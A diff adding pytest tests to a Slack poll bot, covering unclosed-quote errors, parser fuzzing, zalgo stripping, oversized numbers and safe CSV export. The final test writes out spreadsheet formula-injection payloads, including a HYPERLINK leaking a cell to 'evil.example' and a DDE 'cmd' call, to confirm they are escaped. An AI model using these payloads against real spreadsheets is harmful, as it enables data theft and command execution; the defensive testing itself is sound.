@@ -6,12 +6,16 @@ import asyncio
 import csv
 import io
 import json
+import logging
 import os
 import random
+import re
+import shlex
 import signal
 import subprocess
 import sys
 import time
+import unicodedata
 from pathlib import Path
 
 import pytest
@@ -21,7 +25,7 @@ from bot.core.core import Core
 from bot.core.records import Action, Invocation, Member, MessageRef, Place, Reply, Role
 from bot.features.polls import Polls
 from bot.features.polls.render import poll_reply
-from bot.features.polls.spec import PollSpec
+from bot.features.polls.spec import PollError, PollSpec, clean_text, parse_line
 from bot.runner import open_core
 from tests.conftest import ROOT, ConsoleSession, make_config
 from tests.fakes.slack_api import assert_nothing_pings, texts
@@ -96,6 +100,105 @@ async def test_bad_polls_get_a_clear_error_and_create_nothing(core: Core, line: 
     reply, poll_id = await make_poll(core, line)
     assert message in reply.text and reply.ephemeral
     assert poll_id is None
+
+
+@pytest.mark.parametrize("line, pointed", [
+    ('Best day? "Mon" "Tue', 'character 17 ("Tue)'),  # unquoted question: used to say "needs two options"
+    ('Q? --multi 2 "A" "B', 'character 18 ("B)'),
+    ('"Q?" "A" "B', 'character 10 ("B)'),
+    ('“Q?” “A” “B', "character 10 (“B)"),  # phones' curly quotes
+    ('"Q?" "A" "B" "' + "x" * 40, 'character 14 ("xxxxxxxxxxxxxxxxxxx…)'),
+    ('"Q?" Don\'t "B"', "character 9 ('t \"B\")"),  # in the one-line form an apostrophe opens a quote
+])
+async def test_an_unclosed_quote_is_pointed_at(core: Core, line: str, pointed: str):
+    reply, poll_id = await make_poll(core, line, MOD)
+    assert f"the quote at {pointed} is never closed" in reply.text and "every quote is closed" in reply.text
+    assert "two options" not in reply.text and poll_id is None
+
+
+def test_fuzzed_one_line_polls_only_ever_raise_poll_errors():
+    rng = random.Random(12)
+    pieces = ['"', "'", "\\", " ", "“", "”", "‘", "’", "Q?", "A", "b c", "--multi", "2", "²", "9" * 5000, "--closes",
+              "2h", "--post", "x:1", "--template", "--public", "--", "#", "\u0301" * 50, "\x00", "\u202e", "=1+1"]
+    for _ in range(3000):
+        line = "".join(rng.choice(pieces) for _ in range(rng.randrange(1, 14)))
+        try:
+            parse_line(line, now=1_700_000_000.0)
+        except PollError as exc:
+            try:
+                shlex.split(line.replace("“", '"').replace("”", '"').replace("‘", "'").replace("’", "'"))
+            except ValueError as shlex_error:
+                # shlex refuses the line: so must we, pointing at the open quote unless a backslash ends it.
+                assert "never closed" in str(exc) or "escaped" in str(shlex_error), line
+            else:
+                assert "never closed" not in str(exc), line  # never a quote shlex itself reads as closed
+    hostile = '"Q?" "' + '\\"' * 20_000 + "'" * 20_000
+    started = time.perf_counter()
+    with pytest.raises(PollError, match="never closed"):
+        parse_line(hostile)
+    assert time.perf_counter() - started < 0.5
+
+
+def zalgo(text: str) -> str:
+    """Every letter under a stack of 40 combining marks, as zalgo generators make it."""
+    return "".join(c + "\u0301\u0336\u0317\u0489" * 10 for c in text)
+
+
+async def test_zalgo_is_stripped_before_the_length_limit(core: Core):
+    question = "Which day works best for the group call?"
+    assert len(zalgo(question)) > 1500  # six times the 250-character limit
+    reply, poll_id = await make_poll(core, f'"{zalgo(question)}" "{zalgo("Monday")}" "Tuesday"', MOD)
+    assert reply.text.startswith("Poll #"), reply.text
+    poll = await core.get(Polls).get(poll_id)
+    assert len(poll.question) <= 250
+    letters = [c for c in unicodedata.normalize("NFD", poll.question) if unicodedata.category(c)[0] != "M"]
+    assert "".join(letters) == question
+    assert re.search(r"[\u0300-\u036f\u0489]{4}", poll.question + "".join(poll.options)) is None  # no stacks left
+    only_marks, newest = await make_poll(core, '"Q?" "A" "' + "\u0301" * 200 + '"', MOD)
+    assert "empty" in only_marks.text and newest == poll_id  # nothing created
+
+
+@pytest.mark.parametrize("text", ["กี่วันดี", "क्या आप आएँगे?", "Tiếng Việt", "שָׁלוֹם", "བསྒྲུབས", "مُحَمَّد", "1️⃣ ❤️"])
+def test_marks_that_scripts_need_are_kept(text: str):
+    assert clean_text(text) == unicodedata.normalize("NFKC", text)
+
+
+HUGE = "9" * 400
+GIANT = "9" * 5000  # more digits than int() will convert
+
+
+@pytest.mark.parametrize("name, args, answer", [
+    ("poll-results", {"poll_id": HUGE}, "Which poll?"),
+    ("poll-results", {"poll_id": "#" + GIANT}, "Which poll?"),
+    ("poll-results", {"poll_id": "9223372036854775808"}, "Which poll?"),  # 2**63: past SQLite's integers
+    ("poll-results", {"poll_id": "999999999999999999"}, "There is no poll #999999999999999999."),
+    ("poll-results", {"poll_id": "²"}, "Which poll?"),
+    ("poll-close", {"poll_id": GIANT}, "Which poll?"),
+    ("poll", {"question": "results " + GIANT}, "Which poll?"),
+    ("poll", {"question": "close #" + HUGE}, "Which poll?"),
+    ("poll", {"question": '"Q?" "A" "B" --multi ' + GIANT}, "--multi needs a number"),
+    ("poll", {"question": '"Q?" "A" "B" --multi ²'}, "--multi needs a number"),
+    ("poll", {"question": "Q?", "choices": "A|B", "max_choices": GIANT}, "must be a number"),
+    ("poll", {"question": "Q?", "choices": "A|B", "max_choices": "²"}, "must be a number"),
+])
+async def test_huge_numbers_get_an_answer_never_a_traceback(core: Core, caplog, name: str, args: dict[str, str],
+                                                             answer: str):
+    reply = await core.dispatch(Invocation(name, MOD, HERE, args))
+    assert answer in reply.text and reply.ephemeral
+    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []
+    assert await core.storage.fetchall("SELECT id FROM polls") == []
+
+
+@pytest.mark.parametrize("action_id", [f"poll:{HUGE}:vote:0", f"poll:{GIANT}:vote:0", f"poll:{HUGE}:results",
+                                       f"poll:{GIANT}:close", f"poll:1:vote:{HUGE}", f"poll:1:vote:{GIANT}",
+                                       "poll:1:vote:²", "poll:9223372036854775808:vote:0"])
+async def test_crafted_buttons_with_huge_numbers_are_refused_politely(core: Core, caplog, action_id: str):
+    await make_poll(core, '"Q?" "A" "B"', MOD)
+    reply = await press(core, action_id, BOB)
+    assert reply.text == "That button is not valid any more." and reply.ephemeral
+    assert [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR] == []
+    poll = await core.get(Polls).get(1)
+    assert poll.is_open and (await core.get(Polls).tally(poll)).total == 0
 
 
 async def test_mentions_and_markup_stay_plain_text_on_slack(core: Core):
@@ -361,3 +464,25 @@ def test_export_csv_from_the_cli(tmp_path: Path):
     missing = subprocess.run([sys.executable, "-m", "bot", "poll", "export", "9", "--config", str(config)],
                              capture_output=True, text=True, cwd=ROOT, timeout=60)
     assert missing.returncode == 1 and "no poll #9" in missing.stderr
+
+
+async def test_csv_export_never_hands_a_spreadsheet_a_formula(core: Core):
+    options = ["+1", "-1 day", "@SUM(A1:A9)", "=1+1", "fine"]
+    args = {"question": '=HYPERLINK("https://evil.example/?q="&A1,"Click for results")', "choices": "\n".join(options),
+            "voters": "public"}
+    assert (await core.dispatch(Invocation("poll", MOD, HERE, args))).text.startswith("Poll #1")
+    voters = ["=cmd|' /C calc'!A0", "\tTab", "\rCR", "@x", 'bob;=1+1,"x"']
+    for position, name in enumerate(voters):
+        await press(core, f"poll:1:vote:{position}", Member(f"console:v{position}", name, Role.MEMBER))
+    await press(core, "poll:1:vote:4", Member("console:ann", "ann", Role.MEMBER))
+    exported = await core.get(Polls).export_csv(1)
+    # Every cell quoted, inner quotes doubled: no ';' or ',' a member typed can start a cell of its own.
+    assert re.fullmatch(r'("(?:[^"]|"")*"(?:,"(?:[^"]|"")*")*\r\n)+', exported)
+    rows = list(csv.DictReader(io.StringIO(exported, newline="")))
+    assert [r["option"] for r in rows] == ["'+1", "'-1 day", "'@SUM(A1:A9)", "'=1+1", "fine"]
+    assert {r["question"] for r in rows} == {"'" + args["question"]}
+    assert [r["voters"] for r in rows] == ["'=cmd|' /C calc'!A0", "'\tTab", "'\rCR", "'@x", 'bob;=1+1,"x"; ann']
+    assert [r["votes"] for r in rows] == ["1", "1", "1", "1", "2"]
+    for row in rows:
+        for cell in row.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
